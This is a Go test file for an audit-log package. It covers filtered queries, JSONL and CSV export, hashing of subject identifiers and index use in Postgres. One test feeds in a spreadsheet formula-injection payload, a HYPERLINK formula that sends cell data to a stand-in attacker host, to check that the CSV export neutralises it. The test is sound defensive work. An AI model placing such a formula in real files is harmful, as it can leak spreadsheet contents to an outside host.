package audit

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"time"
)

// queryFixture appends 12 entries: i%7 picks the subject (cust-0..cust-6),
// odd ones go to a US recipient and are denied, every third is a delivery,
// and entry i is at testTime + i hours.
func queryFixture(t *testing.T, l *Log) {
	t.Helper()
	for i := 1; i <= 12; i++ {
		e := decidedEntry(i)
		e.Time = testTime.Add(time.Duration(i) * time.Hour)
		if i%2 == 1 {
			e.Recipient, e.RecipientCountry, e.Decision = "swiftship-us", "US", "deny"
			e.Reasons = []string{"no_transfer_mechanism"}
		}
		if i%3 == 0 {
			e.Event, e.Purpose = EventDelivered, "support"
		}
		if _, err := l.Append(t.Context(), e); err != nil {
			t.Fatal(err)
		}
	}
}

func TestQuery(t *testing.T) {
	tests := []struct {
		name string
		give Filter
		want []int64
	}{
		{"all", Filter{}, []int64{1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12}},
		{"subject id", Filter{SubjectID: "cust-3"}, []int64{3, 10}},
		{"subject hmac", Filter{SubjectHMAC: SubjectHMAC(testSubjectKey, "cust-1")}, []int64{1, 8}},
		{"recipient", Filter{Recipient: "swiftship-de"}, []int64{2, 4, 6, 8, 10, 12}},
		{"country", Filter{Country: "US"}, []int64{1, 3, 5, 7, 9, 11}},
		{"purpose", Filter{Purpose: "support"}, []int64{3, 6, 9, 12}},
		{"decision", Filter{Decision: "deny", Event: EventDecided}, []int64{1, 5, 7, 11}},
		{"event", Filter{Event: EventDelivered}, []int64{3, 6, 9, 12}},
		{"request id", Filter{RequestID: "ord-10004-delivery"}, []int64{4}},
		{"time range", Filter{From: testTime.Add(3 * time.Hour), To: testTime.Add(6 * time.Hour)}, []int64{3, 4, 5}},
		{"page", Filter{AfterSequence: 4, Limit: 3}, []int64{5, 6, 7}},
		{"combined", Filter{Country: "US", Purpose: "support", From: testTime.Add(5 * time.Hour)}, []int64{9}},
		{"nothing", Filter{SubjectID: "cust-99"}, nil},
	}
	for _, b := range backends {
		t.Run(b.name, func(t *testing.T) {
			l := openTestLog(t, openTestDB(t, b.dsn(t)), testOptions(t))
			queryFixture(t, l)
			for _, tt := range tests {
				t.Run(tt.name, func(t *testing.T) {
					got, err := l.Query(t.Context(), tt.give)
					if err != nil {
						t.Fatal(err)
					}
					var seqs []int64
					for _, e := range got {
						seqs = append(seqs, e.Sequence)
					}
					if !slices.Equal(seqs, tt.want) {
						t.Errorf("Query() = %v, want %v", seqs, tt.want)
					}
				})
			}
		})
	}
}

func TestExport(t *testing.T) {
	l := openTestLog(t, openTestDB(t, sqliteDSN(t)), testOptions(t))
	queryFixture(t, l)
	ctx := t.Context()
	f := Filter{Country: "US"}

	var jl bytes.Buffer
	n, err := l.Export(ctx, &jl, FormatJSONL, f)
	if err != nil || n != 6 {
		t.Fatalf("export jsonl: %d, %v", n, err)
	}
	want, err := l.Query(ctx, f)
	if err != nil {
		t.Fatal(err)
	}
	dec := json.NewDecoder(&jl)
	for i := 0; dec.More(); i++ {
		var e Entry
		if err := dec.Decode(&e); err != nil {
			t.Fatal(err)
		}
		if !entriesEqual(e, want[i]) || computeHash(&e) != e.Hash {
			t.Errorf("jsonl line %d differs from the stored entry", i)
		}
	}

	var cb bytes.Buffer
	if n, err := l.Export(ctx, &cb, FormatCSV, f); err != nil || n != 6 {
		t.Fatalf("export csv: %d, %v", n, err)
	}
	recs, err := csv.NewReader(&cb).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 7 || !slices.Equal(recs[0], csvHeader) || recs[1][0] != "1" || recs[1][11] != `["no_transfer_mechanism"]` {
		t.Errorf("csv = %q", recs[:2])
	}
	if _, err := l.Export(ctx, &cb, "xml", f); err == nil {
		t.Error("export xml: no error")
	}
	for _, out := range []string{jl.String(), cb.String()} {
		if strings.Contains(out, "cust-") {
			t.Error("export holds a subject id in clear")
		}
	}
}

// TestExportCSVFormulas: what a producer chose (a request id, a source, an
// unknown recipient) is not left for a spreadsheet to run as a formula in
// the CSV export; the JSON lines export holds it as stored.
func TestExportCSVFormulas(t *testing.T) {
	l := openTestLog(t, openTestDB(t, sqliteDSN(t)), testOptions(t))
	e := decidedEntry(1)
	e.Decision, e.Reasons = "deny", []string{"unknown_recipient"}
	e.RequestID, e.Source, e.Recipient = `=HYPERLINK("http://attacker.invalid/?"&A1,"open")`, "+orders", "@SUM(1+1)"
	if _, err := l.Append(t.Context(), e); err != nil {
		t.Fatal(err)
	}
	var cb, jl bytes.Buffer
	if _, err := l.Export(t.Context(), &cb, FormatCSV, Filter{}); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&cb).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("csv: %q, %v", recs, err)
	}
	if got := recs[1][3:6]; !slices.Equal(got, []string{"'" + e.RequestID, "'+orders", "'@SUM(1+1)"}) {
		t.Errorf("csv request_id, source, recipient = %q", got)
	}
	if _, err := l.Export(t.Context(), &jl, FormatJSONL, Filter{}); err != nil {
		t.Fatal(err)
	}
	var got Entry
	if err := json.Unmarshal(jl.Bytes(), &got); err != nil || got.RequestID != e.RequestID || got.Recipient != e.Recipient {
		t.Errorf("jsonl = %s, %v; want the entry as stored", jl.Bytes(), err)
	}
}

// TestSubjectQueryUsesIndex loads 50,000 rows into Postgres (straight SQL:
// the chain does not matter for the plan) and asserts that the subject query
// Query runs is planned as an index scan.
func TestSubjectQueryUsesIndex(t *testing.T) {
	ctx := t.Context()
	db := openTestDB(t, postgresDSN(t))
	l := openTestLog(t, db, testOptions(t))
	if _, err := db.ExecContext(ctx, `INSERT INTO audit_entries
		SELECT g, now() - (g || ' seconds')::interval, 'decided', 'r' || g, 'src', 'rcp' || (g % 50),
		'DE', 'DE', 'delivery', 'ds', 'allow', '[]', 'contract', 'a', 1, 'domestic', '[]', '{}', 'k', 'd', 'v',
		md5((g % 20000)::text), md5(g::text), md5(g::text) FROM generate_series(1, 50000) g`); err != nil {
		t.Fatal(err)
	}
	if _, err := db.ExecContext(ctx, "ANALYZE audit_entries"); err != nil {
		t.Fatal(err)
	}
	p := queryPlan(t, db, l, Filter{SubjectHMAC: "c4ca4238a0b923820dcc509a6f75849b"})
	if strings.Contains(p, `"Seq Scan"`) || !strings.Contains(p, `"`+subjectKeyIdx+`"`) {
		t.Errorf("subject query not planned on %s:\n%s", subjectKeyIdx, p)
	}
	start := time.Now()
	if _, err := l.Query(context.Background(), Filter{SubjectHMAC: "c4ca4238a0b923820dcc509a6f75849b"}); err != nil {
		t.Fatal(err)
	}
	t.Logf("subject query over 50,000 entries: %v", time.Since(start))
}
